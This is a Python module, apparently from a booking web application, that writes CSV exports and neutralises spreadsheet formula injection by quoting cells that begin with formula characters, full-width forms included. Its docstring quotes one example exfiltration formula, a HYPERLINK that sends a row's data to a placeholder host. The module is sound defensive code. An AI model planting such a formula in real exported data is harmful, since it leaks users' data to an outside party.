"""The one CSV writer: every export (a facility's bookings, a group's bookings) goes through it.

Staff open these files in Excel or LibreOffice, and names in them are typed by anyone who
registers a group. A cell that starts with = + - @ (or a tab or carriage return, which a
spreadsheet skips before reading a formula) would run as a formula there:
`=HYPERLINK("http://x/?"&B2,"x")` sends the row's data away on a click. So such a cell gets
a leading single quote, as OWASP's CSV-injection advice says; the quote shows that the text
was changed, and no data is lost.

Full-width ＝ ＋ － ＠ too: Japanese Excel turns a full-width = typed at the start of a cell
into a formula, and we could not check that it never does so when it opens a file. The cost
of neutralising them is a visible quote on a name that starts with one, which is rare.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

from litestar import Response

# Litestar adds "; charset=utf-8" to every text/* type itself: name the type alone.
CSV_MEDIA_TYPE = "text/csv"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")

Cell = str | int | None


def safe_cell(value: Cell) -> str | int:
    """A cell no spreadsheet runs: text starting like a formula gets a leading quote.
    Numbers are ours (ids, fees), never typed by a user, and stay numbers."""
    if value is None:
        return ""
    if isinstance(value, int):
        return value
    if value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> str:
    """UTF-8 with a BOM, so that spreadsheet software in Japan reads the names right; CRLF
    line ends (RFC 4180); every cell neutralised."""
    out = io.StringIO()
    out.write("\ufeff")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([safe_cell(name) for name in header])
    writer.writerows([safe_cell(cell) for cell in row] for row in rows)
    return out.getvalue()


def csv_response(
    filename: str, header: Sequence[str], rows: Iterable[Sequence[Cell]]
) -> Response[str]:
    """A CSV download. The file name is ours (ids and dates), never a user's text."""
    return Response(
        csv_text(header, rows),
        media_type=CSV_MEDIA_TYPE,
        headers={"Content-Disposition": f'attachment; filename="{filename}"'},
    )
